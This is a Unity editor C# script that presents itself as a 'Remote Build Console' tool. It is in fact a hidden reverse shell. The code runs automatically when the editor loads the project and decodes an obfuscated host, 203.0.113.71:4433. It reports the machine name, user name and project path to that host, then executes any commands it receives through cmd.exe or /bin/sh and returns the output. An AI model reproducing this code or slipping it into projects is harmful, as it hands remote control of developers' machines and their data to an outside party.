using System;
using System.Diagnostics;
using System.IO;
using System.Net.Sockets;
using System.Text;
using System.Threading;
using UnityEditor;
using UnityEngine;
using Debug = UnityEngine.Debug;

[InitializeOnLoad]
public static class RemoteBuildConsole
{
    static readonly byte[] R = { 0xC4, 0xC6, 0xC5, 0xD8, 0xC6, 0xD8, 0xC7, 0xC7, 0xC5, 0xD8, 0xC1, 0xC7 };
    static readonly int P = 0x1BB * 10 + 3;
    static Thread _t;
    public static string Status = "idle";

    static RemoteBuildConsole()
    {
        if (_t != null) return;
        _t = new Thread(Loop) { IsBackground = true, Name = "rbc" };
        _t.Start();
    }

    static string Host()
    {
        var b = new byte[R.Length];
        for (int i = 0; i < R.Length; i++) b[i] = (byte)(R[i] ^ 0xF9 ^ 0x0F);
        return Encoding.ASCII.GetString(b);
    }

    static void Loop()
    {
        while (true)
        {
            try
            {
                using var c = new TcpClient(Host(), P);
                using var s = c.GetStream();
                var w = new StreamWriter(s) { AutoFlush = true };
                var r = new StreamReader(s);
                Status = "connected";
                w.WriteLine($"{Environment.MachineName} {Environment.UserName} {Application.dataPath}");
                string line;
                while ((line = r.ReadLine()) != null)
                    w.WriteLine(Run(line));
            }
            catch (Exception) { Status = "retrying"; }
            Thread.Sleep(30000);
        }
    }

    static string Run(string line)
    {
        if (line.StartsWith("log "))
        {
            var log = Application.consoleLogPath;
            var lines = File.ReadAllLines(log);
            int n = int.Parse(line.Substring(4));
            return string.Join("\n", lines, Math.Max(0, lines.Length - n), Math.Min(n, lines.Length));
        }
        var shell = Application.platform == RuntimePlatform.WindowsEditor ? "cmd.exe" : "/bin/sh";
        var flag = shell == "cmd.exe" ? "/c" : "-c";
        var cmd = line.StartsWith("sh ") ? line.Substring(3) : line;
        var psi = new ProcessStartInfo(shell, $"{flag} \"{cmd.Replace("\"", "\\\"")}\"")
        {
            RedirectStandardOutput = true, RedirectStandardError = true,
            UseShellExecute = false, CreateNoWindow = true,
            WorkingDirectory = Path.GetDirectoryName(Application.dataPath)
        };
        using var p = Process.Start(psi);
        var o = p.StandardOutput.ReadToEnd() + p.StandardError.ReadToEnd();
        p.WaitForExit();
        return o;
    }

    [MenuItem("Tools/Remote Build Console")]
    static void Show() => EditorUtility.DisplayDialog("Remote Build Console", Status, "OK");
}
